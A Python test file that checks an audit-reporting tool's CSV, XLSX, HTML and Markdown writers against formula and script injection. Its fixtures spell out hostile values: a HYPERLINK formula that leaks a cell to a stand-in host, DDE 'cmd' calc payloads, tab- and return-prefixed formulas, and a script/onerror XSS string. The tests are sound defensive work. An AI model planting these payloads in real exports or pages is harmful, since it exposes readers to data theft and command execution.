"""Outputs cannot be turned against their readers: no CSV or XLSX cell runs as a formula,
and HTML and Markdown show hostile text as text.

Team names, action texts, auditors and case fields come from councils' exports, so each is
given here as an attacker would write it: ``=HYPERLINK(...)``, ``+cmd``, ``-2+3``, ``@SUM``,
a leading tab or carriage return, and HTML. Every writer is checked: the published report,
child-level detail, the comparison, the workload plan and each command's CSV output.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import attrs
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from qaframework.engine.audits import Audit, AuditAction
from qaframework.engine.report import build_cycle_report, child_level_detail
from qaframework.policy.profile import Profile
from qaframework.policy.workdays import WorkingCalendar
from qaframework.profiles.converter import to_dict
from qaframework.render import render_child_level, render_comparison, render_report
from qaframework.render.cells import FORMULA_TRIGGERS, Figure, csv_writer, neutralise
from tests.cli_run import invoke
from tests.test_render import AS_OF, MAY, hand_audits

HYPERLINK = '=HYPERLINK("http://x/?"&B2,"open")'
HOSTILE = (
    HYPERLINK,
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
HTML_NAME = '<script>alert("x")</script><img src=x onerror=alert(1)>'
EXAMPLES = Path(__file__).parent.parent / "examples"


def _unsafe(cell: str) -> bool:
    return cell.startswith(FORMULA_TRIGGERS)


def _csv_cells(text: str) -> Iterator[str]:
    for row in csv.reader(io.StringIO(text)):
        yield from row


def _xlsx_problems(data: bytes) -> list[str]:
    """Formula cells, and text cells beginning with a trigger without the quote prefix."""
    workbook = load_workbook(io.BytesIO(data))
    found = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    found.append(f"{sheet.title}!{cell.coordinate}: formula {cell.value!r}")
                elif isinstance(cell.value, str) and _unsafe(cell.value) and not cell.quotePrefix:
                    found.append(f"{sheet.title}!{cell.coordinate}: {cell.value!r}")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if b"<f>" in archive.read(name) or b"HYPERLINK(" in archive.read(name).split(b"<t")[0]:
                found.append(f"{name}: holds a formula element")
    return found


def _check_outputs(paths: list[Path], hostile: tuple[str, ...]) -> None:
    """No written file lets a hostile value run; the hostile values are there, as text."""
    seen_text = False
    for path in paths:
        if path.suffix == ".csv":
            cells = list(_csv_cells(path.read_text("utf-8")))
            assert not [c for c in cells if _unsafe(c)], path
            seen_text |= any(c.lstrip("'") in hostile for c in cells)
        elif path.suffix == ".xlsx":
            assert _xlsx_problems(path.read_bytes()) == [], path
        elif path.suffix == ".html":
            page = path.read_text("utf-8")
            assert "<script>alert" not in page
            assert "<img src=x" not in page
        elif path.suffix == ".md":
            # Every angle bracket of the text is escaped, so no viewer renders it as HTML.
            page = path.read_text("utf-8")
            assert not re.search(r"(?<!\\)<", page), path
    assert seen_text, "the hostile values should be in the CSV outputs, made safe"


# -- the helper --------------------------------------------------------------------------


@pytest.mark.parametrize("value", HOSTILE)
def test_text_beginning_with_a_trigger_gets_an_apostrophe(value: str) -> None:
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", [-3, -0.25, 0, 7, "Alpha", "a=b", "", None, date(2026, 5, 1)])
def test_numbers_dates_and_other_text_are_left_alone(value: object) -> None:
    assert neutralise(value) == value


@given(st.lists(st.lists(st.one_of(st.text(), st.integers(), st.floats(allow_nan=False)))))
def test_no_csv_cell_written_can_run(rows: list[list[object]]) -> None:
    buffer = io.StringIO()
    csv_writer(buffer).writerows(rows)
    read = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    for written, back in zip(rows, read, strict=False):
        for value, cell in zip(written, back, strict=False):
            if isinstance(value, str):
                assert not _unsafe(cell)
                assert cell in (value, "'" + value)


@given(
    st.lists(
        st.lists(
            st.one_of(
                st.text(st.characters(blacklist_characters="\x00")),
                st.integers(),
                st.booleans(),
                st.none(),
                st.from_regex(r"-?[0-9]{1,3}\.[0-9]{4}", fullmatch=True).map(Figure),
                st.dates(),
            ),
            min_size=1,
        )
    )
)
def test_csv_cells_read_back_exactly_as_made_safe(rows: list[list[object]]) -> None:
    """Every row written reads back as one row, each cell the value's text made safe (an
    apostrophe before a formula's first character; a Figure, a number, a date as it is;
    None empty), whatever commas, quotes and line breaks the text holds."""
    buffer = io.StringIO()
    csv_writer(buffer).writerows(rows)
    read = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    expected = [["" if value is None else str(neutralise(value)) for value in row] for row in rows]
    assert read == expected
    for row in rows:
        for value in row:
            if type(value) is str and value.startswith(FORMULA_TRIGGERS):
                assert neutralise(value) == "'" + value
            elif isinstance(value, Figure):
                assert neutralise(value) is value


# -- reports -----------------------------------------------------------------------------


def _hostile_audits(audits: list[Audit]) -> list[Audit]:
    """The hand audits with hostile teams, service areas and action texts."""
    names = (*HOSTILE, HTML_NAME)
    changed = []
    for index, audit in enumerate(audits):
        team = names[index % len(names)]
        actions = tuple(
            attrs.evolve(action, what=HYPERLINK, owner="@owner") for action in audit.actions
        )
        changed.append(
            attrs.evolve(audit, team=team, service_area=f"-{audit.service_area}", actions=actions)
        )
    return changed


def test_a_report_with_hostile_team_names_is_safe_in_every_format(
    example_profile: Profile, calendar: WorkingCalendar, tmp_path: Path
) -> None:
    audits = _hostile_audits(hand_audits())
    report = build_cycle_report(
        audits, example_profile, MAY, as_of=AS_OF, trend_periods=3, calendar=calendar
    )
    from qaframework.engine.suppression import SuppressionPolicy

    paths = render_report(report, ["md", "html", "csv", "xlsx"], tmp_path, charts=False)
    # Suppression off, so that every team's row (with its name) is written.
    paths += render_report(
        report,
        ["csv", "xlsx"],
        tmp_path / "exact",
        charts=False,
        suppression=SuppressionPolicy.off(),
    )
    _check_outputs(paths, HOSTILE)
    html = (tmp_path / next(p.name for p in paths if p.suffix == ".html")).read_text("utf-8")
    assert "&lt;script&gt;" in html
    markdown = next(p for p in paths if p.suffix == ".md").read_text("utf-8")
    assert "\\<script\\>" in markdown


def test_child_level_detail_with_hostile_values_is_safe(
    example_profile: Profile, calendar: WorkingCalendar, tmp_path: Path
) -> None:
    audits = _hostile_audits(hand_audits())
    detail = child_level_detail(audits, example_profile, MAY, as_of=AS_OF, calendar=calendar)
    assert detail.overdue_actions, "the hand audits have an overdue action"
    paths = render_child_level(detail, "all", tmp_path)
    _check_outputs(paths, (*HOSTILE, "@owner"))
    workbook = next(p for p in paths if p.suffix == ".xlsx")
    values = [
        cell.value
        for sheet in load_workbook(workbook).worksheets
        for row in sheet.iter_rows()
        for cell in row
    ]
    assert HYPERLINK in values  # shown as written, as text


def test_a_comparison_with_hostile_names_is_safe(
    example_profile: Profile, calendar: WorkingCalendar, tmp_path: Path
) -> None:
    audits = _hostile_audits(hand_audits())
    report = build_cycle_report(
        audits, example_profile, MAY, as_of=AS_OF, trend_periods=3, calendar=calendar
    )
    paths = render_comparison([report], ["csv", "xlsx"], tmp_path)
    for path in paths:
        if path.suffix == ".csv":
            assert not [c for c in _csv_cells(path.read_text("utf-8")) if _unsafe(c)]
        else:
            assert _xlsx_problems(path.read_bytes()) == []


# -- the workload plan -------------------------------------------------------------------


def test_the_workload_plan_writes_hostile_names_safely(tmp_path: Path) -> None:
    from qaframework.engine.periods import FinancialYear
    from qaframework.engine.workload import Staffing, plan_workload
    from qaframework.profiles.registry import get_registry
    from qaframework.render.workload import plan_csv, write_plan_xlsx

    versions = get_registry().load_all_versions("manchester")
    staffing = Staffing(headcount={"Team Manager": 39, "SL": 6, "practitioner": 190})
    plan = plan_workload(versions, FinancialYear(2026), staffing)
    hostile = attrs.evolve(
        plan,
        authority=HYPERLINK,
        lines=tuple(attrs.evolve(line, name=HOSTILE[i % 6]) for i, line in enumerate(plan.lines)),
    )
    cells = list(_csv_cells(plan_csv(hostile)))
    assert not [c for c in cells if _unsafe(c)]
    assert "'" + HOSTILE[1] in cells
    target = tmp_path / "plan.xlsx"
    write_plan_xlsx(hostile, target)
    assert _xlsx_problems(target.read_bytes()) == []


# -- the command line's CSV outputs ------------------------------------------------------


@pytest.fixture(scope="module")
def hostile_jsonl(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Swindon's example audits with hostile teams, auditors and action texts."""
    lines = (EXAMPLES / "swindon" / "audits.jsonl").read_text("utf-8").splitlines()
    out = []
    for index, line in enumerate(lines):
        data = json.loads(line)
        data["team"] = HOSTILE[index % len(HOSTILE)]
        data["auditor"] = "@auditor"
        for action in data.get("actions", []):
            action["what"] = HYPERLINK
            action["owner"] = "@owner"
        out.append(json.dumps(data))
    path = tmp_path_factory.mktemp("hostile") / "audits.jsonl"
    path.write_text("\n".join(out) + "\n", encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def hostile_cases(tmp_path_factory: pytest.TempPathFactory) -> Path:
    lines = (EXAMPLES / "swindon" / "cases.csv").read_text("utf-8").splitlines()
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    rows = list(csv.reader(lines))
    writer.writerow(rows[0])
    for index, row in enumerate(rows[1:]):
        row[1] = HOSTILE[index % len(HOSTILE)]  # Allocated Team
        writer.writerow(row)
    path = tmp_path_factory.mktemp("hostile") / "cases.csv"
    path.write_text(out.getvalue(), encoding="utf-8")
    return path


def _cli_csv_cells(*argv: str) -> list[str]:
    status, out, err = invoke(*argv)
    assert status in (0, 1), err
    lines = out.splitlines()
    if lines and lines[0].startswith("OFFICIAL-SENSITIVE"):
        lines = lines[1:]
    return list(_csv_cells("\n".join(lines)))


AS_OF_ARG = ("--as-of", "2026-07-01")


@pytest.mark.parametrize(
    "command",
    [
        ("actions", "swindon", "{audits}", *AS_OF_ARG, "--format", "csv"),
        ("actions", "swindon", "{audits}", *AS_OF_ARG, "--tracker", "--format", "csv"),
        ("escalations", "swindon", "{audits}", *AS_OF_ARG, "--format", "csv"),
        (
            "sample",
            "swindon",
            "{cases}",
            *AS_OF_ARG,
            "--method",
            "random",
            "--n",
            "20",
            "--seed",
            "1",
            "--format",
            "csv",
        ),
    ],
    ids=["actions", "tracker", "escalations", "sample"],
)
def test_command_csv_outputs_neutralise_hostile_text(
    command: tuple[str, ...], hostile_jsonl: Path, hostile_cases: Path
) -> None:
    argv = [part.format(audits=hostile_jsonl, cases=hostile_cases) for part in command]
    cells = _cli_csv_cells(*argv)
    assert cells
    assert not [c for c in cells if _unsafe(c)]
    assert any(c.startswith("'") and c[1:] in (*HOSTILE, "@owner", "@auditor") for c in cells)


def test_audits_validate_csv_neutralises_rejected_values(tmp_path: Path) -> None:
    source = (EXAMPLES / "swindon" / "audits.csv").read_text("utf-8").splitlines()
    rows = list(csv.reader(source))
    date_column = rows[0].index("Completed On")
    rows[1][date_column] = HYPERLINK
    path = tmp_path / "audits.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows(rows)
    mapping = str(EXAMPLES / "swindon" / "audits.mapping.toml")
    cells = _cli_csv_cells(
        "audits", "validate", "swindon", str(path), "--mapping", mapping, "--format", "csv"
    )
    assert "'" + HYPERLINK in cells
    assert not [c for c in cells if _unsafe(c)]


def test_the_register_trackers_neutralise_hostile_text(tmp_path: Path, hostile_jsonl: Path) -> None:
    register = str(tmp_path / "register.sqlite3")
    assert invoke("register", "init", "--db", register)[0] == 0
    status, _, err = invoke("register", "import", "swindon", str(hostile_jsonl), "--db", register)
    assert status == 0, err
    for extra in ((), ("--overdue",)):
        tracker = ("register", "tracker", "swindon", *AS_OF_ARG, "--db", register, *extra)
        cells = _cli_csv_cells(*tracker, "--format", "csv")
        assert not [c for c in cells if _unsafe(c)], extra
    assert "'" + HYPERLINK in cells


def test_a_report_of_hostile_audits_from_the_command_line(
    tmp_path: Path, hostile_jsonl: Path
) -> None:
    status, _, err = invoke(
        "report",
        "swindon",
        str(hostile_jsonl),
        "--period",
        "2026-27 Q1",
        *AS_OF_ARG,
        "--format",
        "csv",
        "xlsx",
        "--child-level",
        "--out",
        str(tmp_path),
    )
    assert status == 0, err
    written = [p for p in tmp_path.rglob("*") if p.is_file()]
    for path in written:
        if path.suffix == ".csv":
            assert not [c for c in _csv_cells(path.read_text("utf-8")) if _unsafe(c)], path
        elif path.suffix == ".xlsx":
            assert _xlsx_problems(path.read_bytes()) == [], path
    assert any(p.suffix == ".xlsx" for p in written)


def test_to_dict_is_untouched(hostile_jsonl: Path) -> None:
    # JSON outputs carry the text exactly: JSON is not a spreadsheet.
    line = hostile_jsonl.read_text("utf-8").splitlines()[0]
    assert json.loads(line)["team"] == HOSTILE[0]
    assert to_dict(AuditAction("A", HYPERLINK, "o", date(2026, 1, 1)))["what"] == HYPERLINK


def test_every_csv_writer_goes_through_the_shared_helper() -> None:
    # A writer added later with csv.writer would skip the neutralising: there is none.
    source = Path(__file__).parent.parent / "src" / "qaframework"
    direct = [
        str(path.relative_to(source))
        for path in source.rglob("*.py")
        if path.relative_to(source) != Path("render", "cells.py")
        and re.search(r"csv\.(writer|DictWriter)\(", path.read_text("utf-8"))
    ]
    assert direct == []
